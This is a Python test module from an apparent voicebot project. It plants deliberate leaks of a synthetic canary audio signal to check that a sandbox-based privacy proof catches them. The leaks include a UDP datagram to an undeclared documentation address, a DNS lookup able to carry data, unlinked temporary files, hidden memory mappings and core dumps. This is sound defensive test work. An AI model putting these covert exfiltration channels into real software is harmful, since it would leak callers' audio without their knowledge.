"""Planted leaks: each puts a caller's sound where a careless or hostile program would, to prove that a proof can fail.

``python -m voicebot.proof.leaks KIND FOLDER DATA KEY`` plays a process that hears without the sandbox, hears the canary
for two seconds and leaks it. ``KEY`` is the key of the database in ``DATA``, in hexadecimal digits.
"""

from __future__ import annotations

import base64
import logging
import mmap
import os
import resource
import socket
import struct
import sys
import tempfile
from collections.abc import Callable
from pathlib import Path

from voicebot.proof.canary import Canary

RATE = 8000
ELSEWHERE = ("192.0.2.1", 4000)
"""An address that nobody has (RFC 5737)."""


def wav(pcm: bytes, folder: Path) -> None:
    """A WAV file, as a debug flag writes."""
    form = struct.pack("<4sIHHIIHH", b"fmt ", 16, 1, 1, RATE, RATE * 2, 2, 16)
    body = b"WAVE" + form + struct.pack("<4sI", b"data", len(pcm)) + pcm
    (folder / "call.wav").write_bytes(struct.pack("<4sI", b"RIFF", len(body)) + body)


def log_base64(pcm: bytes, folder: Path) -> None:
    """Frames in base64 in a log, one a line."""
    logging.basicConfig(filename=folder / "debug.log", level=logging.DEBUG)
    for start in range(0, len(pcm), 320):
        logging.debug("frame %s", base64.b64encode(pcm[start : start + 320]).decode())


def database(pcm: bytes, folder: Path) -> None:
    """A blob in the encrypted database."""
    from voicebot.database import open_database

    connection = open_database(Path(sys.argv[3]), bytes.fromhex(sys.argv[4]))()
    connection["leak"].insert({"frame": pcm})  # type: ignore[union-attr]
    connection.close()


def unlinked(pcm: bytes, folder: Path) -> None:
    """A temporary file that has no name."""
    with tempfile.TemporaryFile(dir=folder) as file:
        file.write(pcm)


def shared_mapping(pcm: bytes, folder: Path) -> None:
    """A file mapped into memory and removed: no write is seen."""
    path = folder / "map.bin"
    descriptor = os.open(path, os.O_CREAT | os.O_RDWR)
    os.ftruncate(descriptor, len(pcm))
    with mmap.mmap(descriptor, len(pcm)) as mapped:
        mapped[:] = pcm
    os.close(descriptor)
    path.unlink()


def elsewhere(pcm: bytes, folder: Path) -> None:
    """A datagram to a machine that nobody declared."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as out:
        try:
            out.sendto(pcm[:1000], ELSEWHERE)
        except OSError:  # no route is no excuse: it tried
            return


def look_up(pcm: bytes, folder: Path) -> None:
    """A look-up of a name, which can carry data by itself."""
    try:
        socket.getaddrinfo("canary.example.invalid", 443)
    except OSError:
        return


def core_dump(pcm: bytes, folder: Path) -> None:
    """A crash with core dumps allowed: the sound lies in the image of the memory."""
    os.chdir(folder)
    _, most = resource.getrlimit(resource.RLIMIT_CORE)
    resource.setrlimit(resource.RLIMIT_CORE, (most, most))
    os.abort()


LEAKS: dict[str, Callable[[bytes, Path], None]] = {
    "none": lambda pcm, folder: None,
    "wav": wav,
    "log-base64": log_base64,
    "database": database,
    "unlinked": unlinked,
    "shared-mapping": shared_mapping,
    "elsewhere": elsewhere,
    "look-up": look_up,
    "core-dump": core_dump,
}


def main() -> int:
    """Leak once."""
    pcm = Canary(RATE).alone(2.0).astype("<i2").tobytes()
    LEAKS[sys.argv[1]](pcm, Path(sys.argv[2]))
    return 0


if __name__ == "__main__":
    sys.exit(main())
